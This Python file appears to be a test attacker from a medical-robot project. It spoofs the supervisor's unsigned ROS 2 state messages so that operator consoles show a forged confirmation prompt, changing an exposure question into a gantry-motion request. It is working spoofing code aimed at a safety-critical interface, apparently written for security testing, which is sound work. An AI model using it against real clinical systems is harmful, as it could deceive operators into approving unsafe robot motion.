"""An attacker without any key that rewrites what consoles read: the supervisor's own /medrobot/state, re-published.

    state_spoof.py DOMAIN_ID SECONDS TEXT

Each state the supervisor publishes while it asks to confirm an exposure is copied (same session, nonce and
question id, a higher seq) with the question's text replaced by TEXT, a gantry motion, and published every 5 ms
until SECONDS end. Nothing of it is signed, and nothing needs to be: the state is information only. Prints
{"ready": true}, then {"published": N}.
"""

from __future__ import annotations

import copy
import json
import os
import sys
import time
from typing import Any

from rclpy.qos import DurabilityPolicy, QoSProfile, ReliabilityPolicy

from medrobot_llm.backends.ros.common import TOPIC_STATE
from tests.attackers.cross_graph import join, say


def main(domain_id: int, seconds: float, text: str) -> None:
    from medrobot_interfaces.msg import SupervisorState

    node, _ = join(domain_id, "rogue_state")
    pub = node.create_publisher(SupervisorState, TOPIC_STATE, QoSProfile(
        depth=1, reliability=ReliabilityPolicy.RELIABLE, durability=DurabilityPolicy.TRANSIENT_LOCAL))
    latest: list[Any] = [None]

    def on_state(msg: Any) -> None:
        if "exposure" in msg.question:
            latest[0] = msg

    node.create_subscription(SupervisorState, TOPIC_STATE, on_state, QoSProfile(
        depth=50, reliability=ReliabilityPolicy.RELIABLE, durability=DurabilityPolicy.VOLATILE))
    say({"ready": True})
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        real = latest[0]
        if real is not None:
            fake = copy.deepcopy(real)
            n += 1
            fake.seq = real.seq + n
            fake.question = text
            fake.skill = "move_to_view"
            status = json.loads(real.status_json)
            if isinstance(status.get("question"), dict):
                status["question"].update(text=text, skill="move_to_view", hazard="motion")
            fake.status_json = json.dumps(status)
            pub.publish(fake)
        time.sleep(0.005)
    say({"published": n})
    os._exit(0)


if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]), sys.argv[3])
